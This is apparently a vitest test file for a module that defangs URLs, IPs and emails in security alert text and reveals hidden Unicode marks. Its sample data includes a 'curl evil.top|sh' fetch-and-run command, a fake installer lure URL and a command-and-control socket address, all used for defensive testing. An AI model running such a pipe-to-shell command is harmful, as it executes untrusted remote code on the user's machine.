/** Goal: nothing on a page can be followed by mistake, and nothing else is changed. Method: texts as alerts hold them. Elsewhere: how it looks (tests/console). */
import { describe, expect, test } from 'vitest';
import { defanged, pieces, visible } from './defang.ts';

describe('taken apart', () => {
  test.each([
    ['http://get.invoice-view.example.net/viewer.msi', 'hxxp://get[.]invoice-view[.]example[.]net/viewer.msi'],
    ['HTTPS://Evil.Example/a.b?c=d.e', 'HxxPS://Evil[.]Example/a.b?c=d.e'],
    ['ftp://10.1.2.3/x', 'fxp://10[.]1[.]2[.]3/x'],
    ['ping 10.40.2.7 now', 'ping 10[.]40[.]2[.]7 now'],
    ['mail a.b@evil.example', 'mail a.b[@]evil[.]example'],
    ['curl evil.top|sh', 'curl evil[.]top|sh'],
    ['wss://c2.example.org:8443/', 'wss://c2[.]example[.]org:8443/'],
  ])('%s', (text, safe) => {
    expect(defanged(text)).toBe(safe);
  });
});

test.each([
  'p.okafor',
  'Net.WebClient',
  'System.Net.WebClient',
  'invoice.exe',
  'run.ps1',
  '/var/tmp/.cache/udevd2',
  '1.2.3',
  'C:\\Users\\a.exe',
  '',
])('%j is no indicator and stays', (text) => {
  expect(defanged(text)).toBe(text);
});

test('the pieces together are the text', () => {
  const text = 'a http://x.example/ b 10.0.0.1, c@d.example.';
  expect(
    pieces(text)
      .map((piece) => piece.text)
      .join(''),
  ).toBe(text);
});

test('marks that are not seen or turn the text are shown by their number', () => {
  expect(visible('a\u202Egnp.exe\u200B\u0007\n\t')).toBe('a[U+202E]gnp.exe[U+200B][U+0007]\n\t');
});

test.each(['a', 'a.', '1.', 'a-', 'a@', 'http://'])(
  'a long run of %j costs no time: whoever chose it does not hold up the page',
  (piece) => {
    const text = piece.repeat(300_000 / piece.length);
    expect(
      pieces(text)
        .map((each) => each.text)
        .join(''),
    ).toBe(text);
  },
);
